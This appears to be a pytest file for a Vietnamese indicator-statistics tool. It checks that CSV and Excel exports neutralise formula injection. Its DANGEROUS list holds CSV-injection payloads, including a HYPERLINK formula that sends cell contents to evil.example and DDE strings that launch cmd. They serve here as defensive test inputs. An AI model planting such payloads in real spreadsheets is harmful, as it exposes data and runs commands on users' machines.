"""CSV and Excel files chitieu writes never carry a cell that runs as a formula.

A note such as ``=HYPERLINK(...)`` recorded by anyone would otherwise run when
a planner opens an export in Excel. Every CSV the product writes (``chitieu
export``, ``--format csv`` of the listing commands) and every Excel file (the
template, the agencies' template on the web) is checked here with a note,
an indicator name and a formula starting with each dangerous character;
numbers, negative ones included, come out unchanged.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.engine import Engine

from chitieu import Source, get_indicator, get_region, parse_period, record_observation, transaction
from chitieu._cells import csv_cell, runs_as_formula
from chitieu.indicator.models import Indicator
from chitieu.submission.template import write_template
from tests.conftest import BACKENDS
from tests.test_cli import chitieu
from tests.webkit import Web

# A cell starting with any of = + - @ tab CR LF is read by Excel as a formula.
DANGEROUS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
)
PLAIN = ("-3,5", "-3.5", "+1.234,5", "tăng 7,5% = kế hoạch", "a-b")
CODE = "GRDP_GROWTH"


def _one_line_end(text: str) -> str:
    """CSV fields end lines with LF: a lone CR would end the row in every reader."""
    return text.replace("\r", "\n")


def test_the_rule_neutralises_text_and_leaves_numbers():
    for text in DANGEROUS:
        assert runs_as_formula(text) and csv_cell(text) == "'" + _one_line_end(text)
    for value in (*PLAIN, -3.5, -3, 0, None, ""):
        assert not runs_as_formula(value) and csv_cell(value) == value


def _record_notes(engine: Engine) -> dict[str, str]:
    """One figure per note (periods 2001…), and a negative figure; returns period → note."""
    notes = {str(2001 + number): note for number, note in enumerate((*DANGEROUS, *PLAIN))}
    with transaction(engine) as session:
        for period, note in notes.items():
            record_observation(
                session,
                indicator=get_indicator(session, code_or_name=CODE),
                region=get_region(session, code_or_name="bac_giang"),
                period=parse_period(period),
                value=-3.5,
                status="actual",
                source=Source("manual"),
                recorded_by="test",
                note=note,
            )
    return notes


def _check_rows(rows: list[dict[str, str]], notes: dict[str, str]) -> None:
    by_period = {row["period"]: row for row in rows if row["indicator"] == CODE}
    for period, note in notes.items():
        row = by_period[period]
        expected = "'" + _one_line_end(note) if note in DANGEROUS else note
        assert row["note"] == expected, (period, row["note"])
        assert row["value"] == "-3.5", row
    for row in rows:
        for field in row.values():
            assert not runs_as_formula(field), row


def _db(engine: Engine) -> str:
    return engine.url.render_as_string(hide_password=False)


@pytest.mark.parametrize("database_url", BACKENDS, indirect=True)
def test_csv_exports_and_listings_neutralise_formula_notes(loaded: Engine, tmp_path: Path):
    notes = _record_notes(loaded)
    out = tmp_path / "xuat"
    result = chitieu("export", "--out", str(out), "--format", "csv", db=_db(loaded))
    assert result.returncode == 0, result.stderr
    with (out / "observations.csv").open(encoding="utf-8", newline="") as handle:
        _check_rows(list(csv.DictReader(handle)), notes)
    result = chitieu("observations", "--indicator", CODE, "--format", "csv", db=_db(loaded))
    assert result.returncode == 0, result.stderr
    _check_rows(list(csv.DictReader(io.StringIO(result.stdout, newline=""))), notes)


def _hostile_catalogue(engine: Engine) -> None:
    """Every indicator's names and formula start with a dangerous character."""
    with transaction(engine) as session:
        for number, indicator in enumerate(session.scalars(select(Indicator))):
            indicator.name_vi = DANGEROUS[number % len(DANGEROUS)]
            indicator.name_en = "=1+1"
            if indicator.formula:
                indicator.formula = "=" + indicator.formula


def _check_workbook(data: bytes | Path) -> int:
    """No cell is a formula; text that would run as one is text. Returns how many."""
    workbook = load_workbook(data if isinstance(data, Path) else io.BytesIO(data))
    guarded = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if runs_as_formula(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
                    guarded += 1
    return guarded


@pytest.mark.parametrize("database_url", BACKENDS, indirect=True)
def test_the_excel_template_keeps_formula_text_as_text(loaded: Engine, tmp_path: Path):
    _hostile_catalogue(loaded)
    path = tmp_path / "mau.xlsx"
    with transaction(loaded) as session:
        write_template(session, path=path)
        count = len(list(session.scalars(select(Indicator))))
    assert _check_workbook(path) >= 2 * count
    # The text itself is kept: the quote prefix is a style, not a character.
    sheet = load_workbook(path)["chi_tieu"]
    assert {sheet.cell(row, 2).value for row in range(2, sheet.max_row + 1)} == set(DANGEROUS)


@pytest.mark.parametrize("database_url", BACKENDS, indirect=True)
def test_the_agencies_template_on_the_web_keeps_formula_text_as_text(web: Web):
    _hostile_catalogue(web.engine)
    response = web.clients["agency_editor"].get("/entry/template.xlsx")
    assert response.status_code == 200, response.text[:300]
    assert _check_workbook(response.content) >= 2
